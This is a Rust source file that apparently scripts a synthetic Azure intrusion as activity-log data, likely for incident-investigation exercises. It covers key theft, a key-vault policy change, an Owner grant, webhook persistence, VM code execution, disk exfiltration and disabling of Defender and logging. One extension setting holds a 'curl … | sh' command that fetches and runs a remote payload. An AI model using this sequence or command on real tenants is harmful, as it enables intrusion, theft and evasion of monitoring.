//! The attack: a taken-over administrator, an elevated service principal, a managing tenant, and
//! the first answer.
//!
//! Thursday evening to Friday noon (days 3 and 4 of the story).

use serde_json::{Value, json};

use super::cast::{
    self, ADMIN, DEV, GUEST, INTRUDER, INTRUDER_HOST, INVENTORY, PORTAL, PROD, RELAY_USER,
};
use super::script::Script;
use super::story_relay;

/// The virtual machine that code is run on.
pub(crate) const VM: &str = "rg-shop-prod/Microsoft.Compute/virtualMachines/vm-web-01";
/// The storage account whose keys are read first.
pub(crate) const ACCOUNT: &str = "rg-shop-prod/Microsoft.Storage/storageAccounts/stcontosoprod";
/// The lasting grant of Owner to the service principal.
pub(crate) const GRANT: &str =
    "/providers/Microsoft.Authorization/roleAssignments/2f6b8d10-4c3e-4a59-b7f8-1e0d9c2a5b64";
/// The grant to the guest that is taken back.
const BRIEF_GRANT: &str =
    "/providers/Microsoft.Authorization/roleAssignments/a01e7c35-9b82-4d6f-8c14-57f3e2d0b968";
/// Operation: read the keys of a storage account.
pub(crate) const LIST_KEYS: &str = "Microsoft.Storage/storageAccounts/listKeys/action";
/// Operation: run a script on a virtual machine.
pub(crate) const RUN_COMMAND: &str = "Microsoft.Compute/virtualMachines/runCommand/action";
/// Operation: grant a role.
pub(crate) const ASSIGN: &str = "Microsoft.Authorization/roleAssignments/write";
/// Operation: open a key vault.
pub(crate) const POLICIES: &str = "Microsoft.KeyVault/vaults/accessPolicies/write";
/// The key vault that is opened.
pub(crate) const VAULT: &str =
    "rg-shop-prod/Microsoft.KeyVault/vaults/kv-contoso-prod/accessPolicies/add";

/// Writes the attack.
pub(crate) fn attack(script: &mut Script) {
    attempts_before(script);
    taken_over(script);
    grants(script);
    persistence(script);
    execution(script);
    exfiltration(script);
    impairment(script);
    story_relay::delegation(script);
    story_relay::relay(script);
    story_relay::answer(script);
}

/// The service principal is tried before it has any rights.
fn attempts_before(script: &mut Script) {
    for (clock, name, path) in [
        ("21:20:14", RUN_COMMAND, VM),
        ("21:20:51", LIST_KEYS, ACCOUNT),
        (
            "21:21:33",
            "Microsoft.Automation/automationAccounts/write",
            "rg-shop-prod/Microsoft.Automation/automationAccounts/aa-sync",
        ),
    ] {
        let when = script.at(3, clock);
        script.call(INVENTORY, when, name, (PROD, path)).from(INTRUDER_HOST).refused();
    }
}

/// The administrator's account at a new address: keys and secrets.
fn taken_over(script: &mut Script) {
    for (clock, path) in [
        ("21:47:09", ACCOUNT),
        ("21:47:52", "rg-backup/Microsoft.Storage/storageAccounts/stcontosobackup"),
        ("21:48:20", "rg-batch-prod/Microsoft.Storage/storageAccounts/stcontosobatch"),
    ] {
        let when = script.at(3, clock);
        script
            .call(ADMIN, when, LIST_KEYS, (PROD, path))
            .from(INTRUDER)
            .via(cast::POWERSHELL)
            .done();
    }
    let when = script.at(3, "21:53:37");
    let body = policy(&script.incident.principals[ADMIN].object_id);
    script.call(ADMIN, when, POLICIES, (PROD, VAULT)).from(INTRUDER).via(PORTAL).body(body).done();
    let when = script.at(3, "21:55:02");
    script
        .call(
            ADMIN,
            when,
            LIST_KEYS,
            (DEV, "rg-web-dev/Microsoft.Storage/storageAccounts/stcontosodev"),
        )
        .from(INTRUDER)
        .via(cast::POWERSHELL)
        .done();
}

/// Returns a body that opens the key vault to one principal.
pub(crate) fn policy(object_id: &str) -> Value {
    json!({"properties": {"accessPolicies": [{
        "tenantId": cast::CONTOSO,
        "objectId": object_id,
        "permissions": {"keys": ["all"], "secrets": ["all"], "certificates": ["all"]},
    }]}})
}

/// Returns the id of a role definition at a subscription.
pub(crate) fn role(subscription: usize, definition: &str) -> String {
    let scope = cast::resource(subscription, "");
    format!("{scope}/providers/Microsoft.Authorization/roleDefinitions/{definition}")
}

/// One grant stays, one is taken back after a while.
fn grants(script: &mut Script) {
    let when = script.at(3, "22:04:45");
    let object_id = script.incident.principals[INVENTORY].object_id.clone();
    let body = json!({
        "Id": "2f6b8d10-4c3e-4a59-b7f8-1e0d9c2a5b64",
        "Properties": {
            "PrincipalId": object_id,
            "RoleDefinitionId": role(PROD, cast::OWNER),
            "Scope": cast::resource(PROD, ""),
            "PrincipalType": "ServicePrincipal",
        },
    });
    script
        .call(ADMIN, when, ASSIGN, (PROD, GRANT))
        .from(INTRUDER)
        .via(PORTAL)
        .body(body)
        .assigned();
    let when = script.at(3, "22:09:30");
    let object_id = script.incident.principals[GUEST].object_id.clone();
    let body = json!({
        "properties": {
            "roleDefinitionId": role(PROD, cast::ACCESS_ADMINISTRATOR),
            "principalId": object_id,
            "principalType": "User",
        },
    });
    script.call(ADMIN, when, ASSIGN, (PROD, BRIEF_GRANT)).from(INTRUDER).body(body).assigned();
    let when = script.at(3, "22:31:08");
    let answer = json!({
        "properties": {
            "roleDefinitionId": role(PROD, cast::ACCESS_ADMINISTRATOR),
            "principalId": object_id,
            "principalType": "User",
            "scope": cast::resource(PROD, ""),
        },
        "type": "Microsoft.Authorization/roleAssignments",
        "name": "a01e7c35-9b82-4d6f-8c14-57f3e2d0b968",
    });
    script
        .call(ADMIN, when, "Microsoft.Authorization/roleAssignments/delete", (PROD, BRIEF_GRANT))
        .from(INTRUDER)
        .answer(answer)
        .assigned();
}

/// An automation account with a runbook that anyone with the webhook's address can start.
fn persistence(script: &mut Script) {
    let account = "rg-shop-prod/Microsoft.Automation/automationAccounts/aa-sync";
    let (location, identity) = ("westeurope", json!({"type": "SystemAssigned"}));
    let steps = [
        (
            "00:12:05",
            "Microsoft.Automation/automationAccounts/write",
            String::new(),
            json!({
                "location": location,
                "identity": identity,
                "properties": {"sku": {"name": "Basic"}},
            }),
        ),
        (
            "00:13:40",
            "Microsoft.Automation/automationAccounts/runbooks/write",
            "/runbooks/Sync-State".into(),
            json!({
                "location": location,
                "name": "Sync-State",
                "properties": {"runbookType": "PowerShell", "draft": {}},
            }),
        ),
        (
            "00:14:22",
            "Microsoft.Automation/automationAccounts/runbooks/publish/action",
            "/runbooks/Sync-State".into(),
            Value::Null,
        ),
        (
            "00:16:01",
            "Microsoft.Automation/automationAccounts/webhooks/write",
            "/webhooks/sync".into(),
            json!({
                "name": "sync",
                "properties": {
                    "isEnabled": true,
                    "expiryTime": "2028-03-06T00:00:00+00:00",
                    "runbook": {"name": "Sync-State"},
                    "uri": "******",
                },
            }),
        ),
        (
            "00:19:47",
            "Microsoft.Automation/automationAccounts/jobs/write",
            "/jobs/0d4a7f12-6c85-4b3e-91fa-2e8d5c70b694".into(),
            json!({"properties": {"runbook": {"name": "Sync-State"}}}),
        ),
    ];
    for (clock, name, below, body) in steps {
        let when = script.at(4, clock);
        let path = format!("{account}{below}");
        let step = script.call(INVENTORY, when, name, (PROD, &path)).from(INTRUDER_HOST);
        let step = if body.is_null() { step.code("Accepted") } else { step.body(body) };
        step.done();
    }
}

/// Code on a virtual machine, by two ways.
fn execution(script: &mut Script) {
    let when = script.at(4, "00:31:26");
    let body = json!({"commandId": "RunShellScript", "script": ["******"]});
    script
        .call(INVENTORY, when, RUN_COMMAND, (PROD, VM))
        .from(INTRUDER_HOST)
        .body(body)
        .done_later();
    let when = script.at(4, "00:38:12");
    let path = format!("{VM}/extensions/CustomScript");
    let body = json!({
        "location": "westeurope",
        "properties": {
            "publisher": "Microsoft.Azure.Extensions",
            "type": "CustomScript",
            "typeHandlerVersion": "2.1",
            "settings": {"commandToExecute": "curl -s http://198.51.100.77/s | sh"},
        },
    });
    script
        .call(INVENTORY, when, "Microsoft.Compute/virtualMachines/extensions/write", (PROD, &path))
        .from(INTRUDER_HOST)
        .body(body)
        .done_later();
}

/// A copy of a disk, and addresses to fetch it and its original from.
fn exfiltration(script: &mut Script) {
    let snapshot = "rg-shop-prod/Microsoft.Compute/snapshots/snap-tmp";
    let disk = "rg-shop-prod/Microsoft.Compute/disks/vm-web-01_data";
    let when = script.at(4, "00:52:33");
    let body = json!({
        "location": "westeurope",
        "properties": {
            "creationData": {
                "createOption": "Copy",
                "sourceResourceId": cast::resource(PROD, disk),
            },
        },
    });
    script
        .call(INVENTORY, when, "Microsoft.Compute/snapshots/write", (PROD, snapshot))
        .from(INTRUDER_HOST)
        .body(body)
        .done_later();
    let access = json!({"access": "Read", "durationInSeconds": 86_400});
    let when = script.at(4, "00:54:50");
    script
        .call(
            INVENTORY,
            when,
            "Microsoft.Compute/snapshots/beginGetAccess/action",
            (PROD, snapshot),
        )
        .from(INTRUDER_HOST)
        .body(access.clone())
        .done_later();
    let when = script.at(4, "00:57:15");
    script
        .call(INVENTORY, when, "Microsoft.Compute/disks/beginGetAccess/action", (PROD, disk))
        .from(INTRUDER_HOST)
        .body(access)
        .accepted();
}

/// Defender, its alerts, the log's export and a lock are taken out of the way.
fn impairment(script: &mut Script) {
    let setting = "rg-shop-prod/Microsoft.KeyVault/vaults/kv-contoso-prod/providers/Microsoft.Insights/diagnosticSettings/to-siem";
    let lock = "rg-backup/Microsoft.Storage/storageAccounts/stcontosobackup/providers/Microsoft.Authorization/locks/keep";
    let suppression = json!({
        "properties": {
            "alertType": "ARM_AnomalousRBACRoleAssignment",
            "reason": "FalsePositive",
            "state": "Enabled",
            "expirationDateUtc": "2026-09-01T00:00:00Z",
            "comment": "noise",
        },
    });
    let steps = [
        (
            "01:20:11",
            "Microsoft.Security/pricings/write",
            "/providers/Microsoft.Security/pricings/VirtualMachines",
            json!({"properties": {"pricingTier": "Free"}}),
        ),
        (
            "01:22:46",
            "Microsoft.Security/alertsSuppressionRules/write",
            "/providers/Microsoft.Security/alertsSuppressionRules/noise",
            suppression,
        ),
        ("01:27:05", "Microsoft.Insights/DiagnosticSettings/Delete", setting, Value::Null),
        ("01:31:58", "Microsoft.Authorization/locks/delete", lock, Value::Null),
    ];
    for (clock, name, path, body) in steps {
        let when = script.at(4, clock);
        let step = script.call(INVENTORY, when, name, (PROD, path)).from(INTRUDER_HOST).code("OK");
        if body.is_null() {
            step.done()
        } else {
            step.body(body).done()
        };
    }
}

#[cfg(test)]
mod tests {
    use super::super::story;
    use super::super::truth::{Outcome, outcome};
    use super::*;

    #[test]
    fn every_step_of_the_attack_is_there_with_its_outcome() {
        let story = story();
        let has = |who: usize, name: &str, expected: Outcome| {
            story.operations.iter().any(|operation| {
                operation.principal == Some(who)
                    && operation.name == name
                    && outcome(operation) == expected
            })
        };
        for (who, name, expected) in [
            (ADMIN, LIST_KEYS, Outcome::Succeeded),
            (ADMIN, ASSIGN, Outcome::Succeeded),
            (ADMIN, "Microsoft.ManagedServices/registrationAssignments/write", Outcome::Succeeded),
            (INVENTORY, RUN_COMMAND, Outcome::Failed),
            (INVENTORY, RUN_COMMAND, Outcome::Succeeded),
            (
                INVENTORY,
                "Microsoft.Automation/automationAccounts/webhooks/write",
                Outcome::Succeeded,
            ),
            (INVENTORY, "Microsoft.Security/pricings/write", Outcome::Succeeded),
            (INVENTORY, "Microsoft.Compute/disks/beginGetAccess/action", Outcome::Accepted),
            (RELAY_USER, ASSIGN, Outcome::Failed),
            (RELAY_USER, LIST_KEYS, Outcome::Succeeded),
        ] {
            assert!(has(who, name, expected), "{name} {expected:?}");
        }
    }

    #[test]
    fn one_grant_stands_and_one_is_taken_back() {
        let story = story();
        let of = |verb: &str, path: &str| {
            let name = format!("Microsoft.Authorization/roleAssignments/{verb}");
            let resource = cast::resource(PROD, path);
            story.operations.iter().filter(|o| o.name == name && o.resource == resource).count()
        };
        assert_eq!((of("write", GRANT), of("delete", GRANT)), (1, 0));
        assert_eq!((of("write", BRIEF_GRANT), of("delete", BRIEF_GRANT)), (1, 1));
    }
}
